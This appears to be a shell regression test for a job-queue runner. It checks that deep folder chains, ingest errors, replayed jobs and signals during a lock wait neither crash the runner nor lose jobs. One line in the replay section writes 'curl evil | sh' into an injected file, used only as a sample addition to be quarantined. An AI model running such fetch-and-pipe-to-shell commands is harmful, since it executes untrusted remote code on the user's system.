#!/bin/sh
# t0220: one inbox entry cannot stop the runner (issue 9 §4).
#  1. a leftover of an ingested job carrying a folder chain 1,100 levels deep
#     (its recursive delete held one descriptor per level: EMFILE, and every
#     owner command failed)
#  2. an ingest error during `run --watch` is reported and the runner keeps
#     serving the running job (it used to exit: every job -> runner_restart)
#  3. a signal while the runner waits for the ingest lock is retried (EINTR
#     used to end the runner with an error instead of a graceful stop)
. "$(dirname "$0")/test-lib.sh"
STORE="$WS/private/code-queue/$DO_EMAIL"
INBOX="$WS/datasites/$DO_EMAIL/app_data/code-queue/inbox/$DS_EMAIL"
ds init >/dev/null; do_ init >/dev/null; do_ config set isolation none >/dev/null
ulimit -n 1024

# 1. the replayed leftover with a deep chain
make_job "$TEST_DIR/a" 'echo A'
U=$(ds submit "$TEST_DIR/a" --to "$DO_EMAIL" --name a)
cp -a "$INBOX/$U" "$TEST_DIR/copy"
check "job ingested" do_ pending
cp -a "$TEST_DIR/copy" "$INBOX/$U"
python3 -c "
import os
fd = os.open('$INBOX/$U/code', os.O_RDONLY)
for i in range(1100):
    os.mkdir('d', dir_fd=fd); n = os.open('d', os.O_RDONLY, dir_fd=fd); os.close(fd); fd = n
"
check "owner commands work with the deep leftover in the inbox" do_ pending
check "status works too" do_ status
check "the leftover is gone from the inbox (removed or quarantined)" test ! -e "$INBOX/$U"
check "the job is still pending, once" test "$(ls -d "$STORE"/jobs/*/"$U" | wc -l)" = 1

# 1b. replays of that job: an exact copy is dropped once published, without
# an audit line each time; a copy with an addition is quarantined, not deleted
qn() { ls "$STORE/quarantine" | wc -l; }
rec() { grep -c ingest-recovered "$STORE/audit.jsonl"; }
q0=$(qn); a0=$(rec)
for k in 1 2 3; do cp -a "$TEST_DIR/copy" "$INBOX/$U"; do_ pending >/dev/null; done
check "exact replays are dropped" test ! -e "$INBOX/$U"
check "... with no audit line each (ingest-recovered $a0 -> $(rec))" test "$(rec)" = "$a0"
check "... and no quarantine" test "$(qn)" = "$q0"
cp -a "$TEST_DIR/copy" "$INBOX/$U"; echo 'curl evil | sh' > "$INBOX/$U/code/zz.sh"
do_ pending >/dev/null
check "a replay with an added file is quarantined, not deleted" sh -c "grep -rq 'did not have' '$STORE/quarantine' && test -z \"\$(ls '$INBOX' | grep '$U')\""
mkdir -p "$INBOX/$U.cancel.json/inner"; echo data > "$INBOX/$U.cancel.json/inner/f"
do_ pending >/dev/null
check "a cancel request that is a folder is quarantined, not deleted" sh -c "grep -rq 'not a plain file' '$STORE/quarantine' && test ! -e '$INBOX/$U.cancel.json'"
check "... and cancels nothing" test -d "$STORE/jobs/pending/$U"

# 2. an ingest error while a job runs under --watch
running_job S slow 'sleep 3; echo SLOW-DONE'
check "the slow job runs" test -d "$STORE/jobs/running/$S"
# a local failure (store/tmp is not a folder) makes every ingest of a new job fail
rm -rf "$STORE/tmp"; echo x > "$STORE/tmp"
B=$(ds submit "$TEST_DIR/a" --to "$DO_EMAIL" --name b)
for i in $(seq 80); do [ -d "$STORE/jobs/completed/$S" ] && break; sleep 0.1; done
check "the runner survived the ingest error" kill -0 $W
check "the running job completed (not runner_restart)" test -d "$STORE/jobs/completed/$S"
check "the ingest error was reported" grep -q "ingest: .*the runner goes on" "$TEST_DIR/watch-slow.err"
check "run --watch says when a job starts" grep -q "job $S started" "$TEST_DIR/watch-slow.err"
check "... and how it ended" grep -q "job $S completed" "$TEST_DIR/watch-slow.err"
rm -f "$STORE/tmp"
for i in $(seq 50); do [ -d "$STORE/jobs/pending/$B" ] && break; sleep 0.1; done
check "once the disk is fixed the new job is ingested" test -d "$STORE/jobs/pending/$B"
kill -TERM $W; wait $W; rc=$?
check "watch stops cleanly on SIGTERM (exit $rc)" test $rc = 0

# 3. SIGTERM while the runner waits for the ingest lock
python3 -c "
import fcntl, os, time, sys
fd = os.open('$STORE/ingest.lock', os.O_RDWR | os.O_CREAT)
fcntl.flock(fd, fcntl.LOCK_EX); open('$TEST_DIR/locked', 'w').close(); time.sleep(2)
" &
L=$!
for i in $(seq 200); do [ -f "$TEST_DIR/locked" ] && break; sleep 0.05; done
check "the lock holder runs" test -f "$TEST_DIR/locked"
"$SCQ" --email "$DO_EMAIL" --data-dir "$WS" run --watch > "$TEST_DIR/w2.out" 2> "$TEST_DIR/w2.err" &
W=$!
sleep 0.5; kill -TERM $W; wait $W; rc=$?; wait $L
check "a signal during the lock wait stops gracefully (exit $rc)" test $rc = 0
check "and says nothing about a failed lock" sh -c "! grep -q 'locking the inbox' '$TEST_DIR/w2.err'"
check "audit verifies" do_ audit --verify
done_testing
